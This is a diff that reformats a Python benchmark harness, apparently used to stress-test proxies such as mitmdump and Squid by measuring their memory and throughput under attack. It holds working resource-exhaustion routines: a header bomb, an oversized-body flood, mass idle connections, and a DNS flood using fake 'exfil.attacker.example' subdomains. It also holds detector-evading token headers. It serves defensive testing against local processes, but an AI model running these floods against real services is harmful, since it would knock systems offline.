@@ -72,12 +72,38 @@ class Sizes:
     fresh_per_attack: bool
 
 
-FULL = Sizes(header_mb=200, body_mb=59, bodies=3, idle=2000, idle_seconds=5.0,
-             dns_sockets=500, dns_rate=5000, dns_seconds=5.0, auth_requests=8, auth_kb=41,
-             upstream_mb=200, quiet_seconds=1.5, attack_timeout=150.0, fresh_per_attack=True)
-QUICK = Sizes(header_mb=4, body_mb=2, bodies=3, idle=100, idle_seconds=0.5,
-              dns_sockets=50, dns_rate=2000, dns_seconds=0.5, auth_requests=1, auth_kb=8,
-              upstream_mb=4, quiet_seconds=0.3, attack_timeout=20.0, fresh_per_attack=False)
+FULL = Sizes(
+    header_mb=200,
+    body_mb=59,
+    bodies=3,
+    idle=2000,
+    idle_seconds=5.0,
+    dns_sockets=500,
+    dns_rate=5000,
+    dns_seconds=5.0,
+    auth_requests=8,
+    auth_kb=41,
+    upstream_mb=200,
+    quiet_seconds=1.5,
+    attack_timeout=150.0,
+    fresh_per_attack=True,
+)
+QUICK = Sizes(
+    header_mb=4,
+    body_mb=2,
+    bodies=3,
+    idle=100,
+    idle_seconds=0.5,
+    dns_sockets=50,
+    dns_rate=2000,
+    dns_seconds=0.5,
+    auth_requests=1,
+    auth_kb=8,
+    upstream_mb=4,
+    quiet_seconds=0.3,
+    attack_timeout=20.0,
+    fresh_per_attack=False,
+)
 
 
 @dataclasses.dataclass
@@ -126,8 +152,10 @@ def start_victim(name: str, world: C.World, directory: Path) -> Victim:
 
 # --- measuring around an attack ------------------------------------------------------------
 
-async def allowed_traffic(target: Target, stop: asyncio.Event,
-                          connections: int = 4) -> tuple[int, int, float]:
+
+async def allowed_traffic(
+    target: Target, stop: asyncio.Event, connections: int = 4
+) -> tuple[int, int, float]:
     """Small provider requests on keep-alive connections until `stop`: (ok, errors, s)."""
     ok = errors = 0
     context = target.ssl_context()
@@ -196,8 +224,7 @@ async def measure(attack: Attack, victim: Victim, sizes: Sizes) -> dict[str, Any
     try:
         outcome = await asyncio.wait_for(attack(victim, sizes), sizes.attack_timeout)
     except TimeoutError:
-        outcome = {"outcome": f"attack still running after {sizes.attack_timeout:.0f} s: "
-                              "stopped"}
+        outcome = {"outcome": f"attack still running after {sizes.attack_timeout:.0f} s: stopped"}
     except Exception as exc:
         outcome = {"outcome": f"attack client error: {type(exc).__name__}: {exc}"[:200]}
     seconds = time.perf_counter() - t0
@@ -217,8 +244,9 @@ async def measure(attack: Attack, victim: Victim, sizes: Sizes) -> dict[str, Any
         **outcome,
     }
     during = result["allowed_rps_during"]
-    result["during_over_before"] = round(during / quiet, 2) if quiet and during is not None \
-        else None
+    result["during_over_before"] = (
+        round(during / quiet, 2) if quiet and during is not None else None
+    )
     if victim.alive:
         after = memory(pid)
         result["rss_after_mb"] = after.get("vmrss_mb")
@@ -227,6 +255,7 @@ async def measure(attack: Attack, victim: Victim, sizes: Sizes) -> dict[str, Any
 
 
 # --- the attacks ---------------------------------------------------------------------------
+
 
 async def _status_line(reader: asyncio.StreamReader) -> str:
     line = await reader.readuntil(b"\r\n")
@@ -246,8 +275,10 @@ async def header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     sent = 0
     how = "sent whole"
     try:
-        writer.write(f"GET http://{target.host_header}/v1/models HTTP/1.1\r\n"
-                     f"Host: {target.host_header}\r\nX-Bomb: ".encode())
+        writer.write(
+            f"GET http://{target.host_header}/v1/models HTTP/1.1\r\n"
+            f"Host: {target.host_header}\r\nX-Bomb: ".encode()
+        )
         chunk = b"a" * MB
         while sent < sizes.header_mb * MB:
             if answer.done() or not victim.alive:
@@ -269,8 +300,11 @@ async def header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
         if not answer.done():
             answer.cancel()
         writer.close()
-    return {"outcome": f"{how} after {sent // MB} MB; answer: {status or 'none'}",
-            "sent_mb": sent // MB, "answer": status}
+    return {
+        "outcome": f"{how} after {sent // MB} MB; answer: {status or 'none'}",
+        "sent_mb": sent // MB,
+        "answer": status,
+    }
 
 
 async def refused_bodies(victim: Victim, sizes: Sizes) -> dict[str, Any]:
@@ -285,8 +319,10 @@ async def refused_bodies(victim: Victim, sizes: Sizes) -> dict[str, Any]:
         first = final = ""
         sent = 0
         try:
-            writer.write(f"POST http://{host}/upload HTTP/1.1\r\nHost: {host}\r\n"
-                         f"Content-Length: {length}\r\nExpect: 100-continue\r\n\r\n".encode())
+            writer.write(
+                f"POST http://{host}/upload HTTP/1.1\r\nHost: {host}\r\n"
+                f"Content-Length: {length}\r\nExpect: 100-continue\r\n\r\n".encode()
+            )
             await _drain(writer)
             try:
                 first = await asyncio.wait_for(_status_line(reader), 1.0)
@@ -314,9 +350,12 @@ async def refused_bodies(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     continues = sum(1 for a in answers if a["first"].startswith("HTTP/1.1 100"))
     body_mb = sum(a["body_sent_mb"] for a in answers)
     finals = sorted({a["final"][:40] for a in answers})
-    return {"outcome": f"100 Continue: {continues}/{len(answers)}; body bytes taken: "
-                       f"{body_mb} MB; answers: {', '.join(finals)}",
-            "continues": continues, "body_sent_mb": body_mb}
+    return {
+        "outcome": f"100 Continue: {continues}/{len(answers)}; body bytes taken: "
+        f"{body_mb} MB; answers: {', '.join(finals)}",
+        "continues": continues,
+        "body_sent_mb": body_mb,
+    }
 
 
 async def idle_connections(victim: Victim, sizes: Sizes) -> dict[str, Any]:
@@ -353,9 +392,12 @@ async def idle_connections(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     finally:
         for _, writer in conns:
             writer.close()
-    return {"outcome": f"{len(conns)} opened, {failed} refused at connect, {closed} closed "
-                       f"by the proxy within {sizes.idle_seconds:.0f} s",
-            "opened": len(conns), "closed_by_proxy": closed}
+    return {
+        "outcome": f"{len(conns)} opened, {failed} refused at connect, {closed} closed "
+        f"by the proxy within {sizes.idle_seconds:.0f} s",
+        "opened": len(conns),
+        "closed_by_proxy": closed,
+    }
 
 
 async def dns_flood(victim: Victim, sizes: Sizes) -> dict[str, Any]:
@@ -374,11 +416,13 @@ async def dns_flood(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     transports = []
     for _ in range(sizes.dns_sockets):
         transport, _ = await loop.create_datagram_endpoint(
-            Count, remote_addr=("127.0.0.1", victim.dns_port))
+            Count, remote_addr=("127.0.0.1", victim.dns_port)
+        )
         transports.append(transport)
     rng = random.Random(10)
-    names = [C.PROVIDER_HOST] + [f"{rng.getrandbits(40):x}.exfil.attacker.example"
-                                 for _ in range(256)]
+    names = [C.PROVIDER_HOST] + [
+        f"{rng.getrandbits(40):x}.exfil.attacker.example" for _ in range(256)
+    ]
     wires = [dns.message.make_query(n, "A").to_wire() for n in names]
     sent = 0
     start = time.perf_counter()
@@ -397,20 +441,27 @@ async def dns_flood(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     elapsed = time.perf_counter() - start
     await asyncio.sleep(max(0.0, sizes.idle_seconds))  # then: is the flow state released?
     settled = memory(victim.contender.pid).get("vmrss_mb") if victim.alive else None
-    return {"outcome": f"{sent:,} queries (paced at {sizes.dns_rate:,}/s) from "
-                       f"{len(transports)} ports in "
-                       f"{sizes.dns_seconds:.0f} s, {answered:,} answered "
-                       f"({answered / elapsed:,.0f}/s); RSS {sizes.idle_seconds:.0f} s later: "
-                       f"{settled} MB",
-            "queries": sent, "answered": answered, "rss_settled_mb": settled}
+    return {
+        "outcome": f"{sent:,} queries (paced at {sizes.dns_rate:,}/s) from "
+        f"{len(transports)} ports in "
+        f"{sizes.dns_seconds:.0f} s, {answered:,} answered "
+        f"({answered / elapsed:,.0f}/s); RSS {sizes.idle_seconds:.0f} s later: "
+        f"{settled} MB",
+        "queries": sent,
+        "answered": answered,
+        "rss_settled_mb": settled,
+    }
 
 
 # (length, alphabet) pairs the generic key detector has not seen: one token each. Hex,
 # lower+digits, and letters+digits with 0..6 of the token's symbols ('_-.~+/').
 def _token_pairs() -> itertools.cycle[tuple[int, str]]:
     symbols = "_-.~+/"
-    shapes = ["a1", "z1", "zZ1"] + [f"z1{symbols[:k]}" for k in range(1, 7)] + \
-        [f"zZ1{symbols[:k]}" for k in range(1, 7)]
+    shapes = (
+        ["a1", "z1", "zZ1"]
+        + [f"z1{symbols[:k]}" for k in range(1, 7)]
+        + [f"zZ1{symbols[:k]}" for k in range(1, 7)]
+    )
     return itertools.cycle([(n, s) for s in shapes for n in range(32, 513)])
 
 
@@ -435,9 +486,13 @@ async def auth_tokens(victim: Victim, sizes: Sizes, pairs: Any = None) -> dict[s
         try:
             body = SMALL_REQUEST
             conn.writer.write(
-                (f"POST /v1/chat/completions HTTP/1.1\r\nHost: {target.host_header}\r\n"
-                 f"Authorization: {header}\r\nContent-Type: application/json\r\n"
-                 f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
+                (
+                    f"POST /v1/chat/completions HTTP/1.1\r\nHost: {target.host_header}\r\n"
+                    f"Authorization: {header}\r\nContent-Type: application/json\r\n"
+                    f"Content-Length: {len(body)}\r\n\r\n"
+                ).encode()
+                + body
+            )
             t0 = time.perf_counter()
             status = int((await asyncio.wait_for(_status_line(conn.reader), 30)).split()[1])
             latencies.append(time.perf_counter() - t0)
@@ -446,10 +501,12 @@ async def auth_tokens(victim: Victim, sizes: Sizes, pairs: Any = None) -> dict[s
             conn.close()
     worst = max(latencies) * 1000 if latencies else None
     median = sorted(latencies)[len(latencies) // 2] * 1000 if latencies else None
-    return {"outcome": f"{len(latencies)} requests, answered {statuses}; time to answer "
-                       f"median {median:.0f} ms, worst {worst:.0f} ms",
-            "answer_ms_median": round(median, 1) if median else None,
-            "answer_ms_worst": round(worst, 1) if worst else None}
+    return {
+        "outcome": f"{len(latencies)} requests, answered {statuses}; time to answer "
+        f"median {median:.0f} ms, worst {worst:.0f} ms",
+        "answer_ms_median": round(median, 1) if median else None,
+        "answer_ms_worst": round(worst, 1) if worst else None,
+    }
 
 
 async def upstream_header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
@@ -460,9 +517,10 @@ async def upstream_header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     head = tail = b""
     how = "read to the end"
     try:
-        conn.writer.write(f"GET /v1/bench/header-bomb?mb={sizes.upstream_mb} HTTP/1.1\r\n"
-                          f"Host: {target.host_header}\r\nConnection: close\r\n\r\n"
-                          .encode())
+        conn.writer.write(
+            f"GET /v1/bench/header-bomb?mb={sizes.upstream_mb} HTTP/1.1\r\n"
+            f"Host: {target.host_header}\r\nConnection: close\r\n\r\n".encode()
+        )
         while True:
             data = await asyncio.wait_for(conn.reader.read(MB), 30)
             if not data:
@@ -482,8 +540,10 @@ async def upstream_header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
     finally:
         conn.close()
     first = head.split(b"\r\n", 1)[0].decode(errors="replace") or "nothing"
-    return {"outcome": f"{how}; client got {received / MB:,.1f} MB, first line: {first}",
-            "client_received_mb": round(received / MB, 1)}
+    return {
+        "outcome": f"{how}; client got {received / MB:,.1f} MB, first line: {first}",
+        "client_received_mb": round(received / MB, 1),
+    }
 
 
 ATTACKS: dict[str, Attack] = {
@@ -498,13 +558,19 @@ ATTACKS: dict[str, Attack] = {
 
 # --- running and reporting -----------------------------------------------------------------
 
+
 def _stop(victim: Victim) -> None:
     if victim.owned:
         victim.procs.stop_all()
 
 
-async def run_hostile(mode: str, world: C.World, tmp: Path, log: Callable[[str], None],
-                      running: dict[str, C.Contender] | None = None) -> dict[str, Any]:
+async def run_hostile(
+    mode: str,
+    world: C.World,
+    tmp: Path,
+    log: Callable[[str], None],
+    running: dict[str, C.Contender] | None = None,
+) -> dict[str, Any]:
     """Every attack against every contender. Quick mode borrows the main run's `running`
     mitmdump and Squid (no start-up cost in the CI smoke run); the sidecar is always
     started here, with a DNS listener."""
@@ -532,16 +598,20 @@ async def run_hostile(mode: str, world: C.World, tmp: Path, log: Callable[[str],
                     try:
                         victim = start_victim(name, world, root / f"{name}-{attack_name}")
                     except Exception as exc:
-                        out[name][attack_name] = {"status": "error",
-                                                  "why": f"start: {type(exc).__name__}: {exc}"}
+                        out[name][attack_name] = {
+                            "status": "error",
+                            "why": f"start: {type(exc).__name__}: {exc}",
+                        }
                         continue
                 if attack_name == "dns_flood" and victim.dns_port is None:
                     out[name][attack_name] = {"status": "n/a", "why": "built without --dns"}
                     continue
                 t0 = time.perf_counter()
                 out[name][attack_name] = await measure(attack, victim, sizes)
-                log(f"  hostile {attack_name} {name}: {out[name][attack_name]['status']}, "
-                    f"{time.perf_counter() - t0:.1f}s")
+                log(
+                    f"  hostile {attack_name} {name}: {out[name][attack_name]['status']}, "
+                    f"{time.perf_counter() - t0:.1f}s"
+                )
         finally:
             if victim is not None:
                 _stop(victim)
@@ -561,25 +631,53 @@ def report(hostile: dict[str, Any]) -> str:
             if not isinstance(e, dict):
                 continue
             if "rss_before_mb" not in e:
-                rows.append([name, f"{e.get('status')}: {e.get('why')}", "", "", "", "", "", "",
-                             ""])
+                rows.append(
+                    [name, f"{e.get('status')}: {e.get('why')}", "", "", "", "", "", "", ""]
+                )
                 continue
-            rows.append([name, e["rss_before_mb"], e.get("peak_rss_sampled_mb"),
-                         e.get("vmhwm_mb"), e.get("rss_after_mb"), e["allowed_rps_before"],
-                         e["allowed_rps_during"], e.get("during_over_before"),
-                         f"{e['status']}; {e.get('outcome', '')}"])
-        title = (f"Hostile: {attack} ({'fresh process per attack' if fresh else 'one process '
-                 'per contender for all attacks: peaks are cumulative'})")
-        lines.append(table(title, ["contender", "RSS before MB", "peak RSS MB (sampled)",
-                                   "VmHWM MB", "RSS after MB", "allowed req/s before",
-                                   "during", "during/before", "process; what happened"], rows))
+            rows.append(
+                [
+                    name,
+                    e["rss_before_mb"],
+                    e.get("peak_rss_sampled_mb"),
+                    e.get("vmhwm_mb"),
+                    e.get("rss_after_mb"),
+                    e["allowed_rps_before"],
+                    e["allowed_rps_during"],
+                    e.get("during_over_before"),
+                    f"{e['status']}; {e.get('outcome', '')}",
+                ]
+            )
+        title = f"Hostile: {attack} ({
+            'fresh process per attack'
+            if fresh
+            else 'one process per contender for all attacks: peaks are cumulative'
+        })"
+        lines.append(
+            table(
+                title,
+                [
+                    "contender",
+                    "RSS before MB",
+                    "peak RSS MB (sampled)",
+                    "VmHWM MB",
+                    "RSS after MB",
+                    "allowed req/s before",
+                    "during",
+                    "during/before",
+                    "process; what happened",
+                ],
+                rows,
+            )
+        )
     del fmt
     return "\n".join(lines)
 
 
 def main(argv: list[str] | None = None) -> int:
-    parser = argparse.ArgumentParser(prog="python -m bench.hostile",
-                                     description=__doc__.splitlines()[0])
+    parser = argparse.ArgumentParser(
+        prog="python -m bench.hostile", description=__doc__.splitlines()[0]
+    )
     parser.add_argument("--quick", action="store_true", help="small sizes (the CI smoke run)")
     parser.add_argument("--output", help="also write the results as JSON here")
     args = parser.parse_args(argv)
